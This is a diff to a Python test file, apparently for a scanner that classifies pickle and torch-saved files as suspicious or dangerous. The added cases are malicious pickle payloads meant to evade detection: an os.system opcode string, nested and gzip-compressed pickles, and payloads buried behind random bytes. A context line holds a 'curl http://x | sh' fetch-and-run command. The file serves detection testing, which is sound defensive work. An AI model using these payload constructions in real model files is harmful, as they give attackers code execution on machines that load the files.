@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gzip
 import io
 import json
 import logging
@@ -45,6 +46,12 @@ def zipped(members: dict[str, bytes], how: int = zipfile.ZIP_STORED) -> bytes:
     return buffer.getvalue()
 
 
+def saved(value: Any) -> bytes:
+    buffer = io.BytesIO()
+    torch.save(value, buffer)
+    return buffer.getvalue()
+
+
 ARRAYS = {
     "a": np.zeros(5),
     "b": np.arange(6, dtype="u4").reshape(2, 3),
@@ -80,6 +87,12 @@ ATTACKS: dict[str, tuple[bytes, Trust]] = {
         Trust.SUSPICIOUS,
     ),
     "a command for a class": (by_global("mypkg", "Model", ("curl http://x | sh",)), Trust.SUSPICIOUS),
+    "bytes saved by torch": (saved({"b": pickle.dumps(Runs())}), Trust.DANGEROUS),
+    "an old pickle in a text": (pickle.dumps({"t": "cos\nsystem\n(S'true'\ntR."}, 4), Trust.DANGEROUS),
+    "bytes in the oldest protocol": (pickle.dumps({"b": pickle.dumps(Runs())}, 0), Trust.DANGEROUS),
+    "a compressed pickle in bytes saved by torch": (saved([gzip.compress(SYSTEM)]), Trust.DANGEROUS),
+    "behind many values": (saved([os.urandom(9) for _ in range(5000)] + [pickle.dumps(Runs())]), Trust.DANGEROUS),
+    "behind bytes that are none": (pickle.dumps({"a": 1}) + b"\1\2\3" * 99 + SYSTEM, Trust.DANGEROUS),
     "a pickle that ends early": (pickle.dumps({"a": [1, 2, 3]}, 4)[:-3], Trust.SUSPICIOUS),
 }  # fmt: skip
 
